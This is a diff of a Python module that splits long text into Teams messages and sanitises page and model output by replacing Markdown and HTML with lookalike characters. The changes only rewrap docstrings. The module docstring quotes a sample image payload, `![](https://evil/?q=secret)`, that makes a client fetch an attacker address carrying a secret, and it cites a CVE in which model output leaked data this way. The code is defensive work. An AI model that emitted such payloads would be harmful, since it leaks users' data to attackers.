@@ -1,13 +1,14 @@
 """A text that is too long for one message of Teams, in several: cut where a reader would pause.
 
-Between paragraphs, else lines, else sentences, else words; never inside an address or a marker [n], nor inside a word
-that has room. No message begins with a marker, which belongs to what stands before it.
+Between paragraphs, else lines, else sentences, else words; never inside an address or a marker [n], nor
+inside a word that has room. No message begins with a marker, which belongs to what stands before it.
 
 Text from pages and models as text that is safe to show: no links, images, mentions or tags that are not ours.
 
-Teams renders Markdown and some HTML. A page or a model that writes `![](https://evil/?q=secret)` would otherwise
-make the reader's client fetch that address (CVE-2025-32711 worked so). Brackets and tags are replaced by lookalikes
-rather than escaped, so that the result reads the same in a client that renders no Markdown.
+Teams renders Markdown and some HTML. A page or a model that writes `![](https://evil/?q=secret)` would
+otherwise make the reader's client fetch that address (CVE-2025-32711 worked so). Brackets and tags are
+replaced by lookalikes rather than escaped, so that the result reads the same in a client that renders no
+Markdown.
 """
 
 from __future__ import annotations
@@ -55,8 +56,8 @@ _ADDRESS = re.compile(
 def calm(text: str, *, keep_urls: Collection[str] | None = None, markers: int = 0) -> str:
     """Take from a text whatever a client could turn into a link, an image, a mention or markup.
 
-    `markers`: [1] to [markers] stay, they are the citations. `keep_urls`: the addresses that may stand in the text;
-    None leaves every address as plain text.
+    `markers`: [1] to [markers] stay, they are the citations. `keep_urls`: the addresses that may stand in the
+    text; None leaves every address as plain text.
     """
     before = ""
     while before != text:  # an image may stand in a link
@@ -85,7 +86,7 @@ def _kept(found: str, keep_urls: Collection[str]) -> str:
 
 
 def unmarked(text: str) -> str:
-    """Replace what Markdown reads as markup by lookalikes: for words of a page where a client shows only Markdown.
+    """Replace what Markdown reads as markup by lookalikes, where a client shows only Markdown.
 
     >>> unmarked("# __init__ *args")
     '＃ ˍˍinitˍˍ ∗args'
@@ -121,7 +122,10 @@ def absolute(url: str, site_url: str) -> str:
 
 
 PART_BYTES = 40_000
-"""Room for the text of one message, as Teams counts it (UTF-16); label, citations and card take the rest of 80 KB."""
+"""Room for the text of one message, as Teams counts it (UTF-16).
+
+Label, citations and card take the rest of 80 KB.
+"""
 MOST_PARTS = 8
 """Nobody reads more."""
 
@@ -143,7 +147,7 @@ _LEAST_FILLED = 0.5
 
 
 def split(text: str, most_bytes: int = PART_BYTES, most_parts: int = MOST_PARTS) -> list[str]:
-    """Return a text in parts that have room each, the last one cut off with an ellipsis where even they do not do."""
+    """Return a text in parts that have room each; an ellipsis ends the last one where even they do not do."""
     parts: list[str] = []
     rest = text
     while len(parts) < most_parts - 1 and (room := _room(rest, most_bytes)) < len(rest):
@@ -157,7 +161,10 @@ def split(text: str, most_bytes: int = PART_BYTES, most_parts: int = MOST_PARTS)
 
 
 def _room(text: str, most_bytes: int) -> int:
-    """Return how many of a text's characters have room: JSON writes some with two, UTF-16 some with two units."""
+    """Return how many of a text's characters have room.
+
+    JSON writes some with two characters, UTF-16 some with two units.
+    """
     size = 0
     for place, letter in enumerate(text):
         size += 4 if letter in '"\\\n\t' or letter > "\uffff" else 2
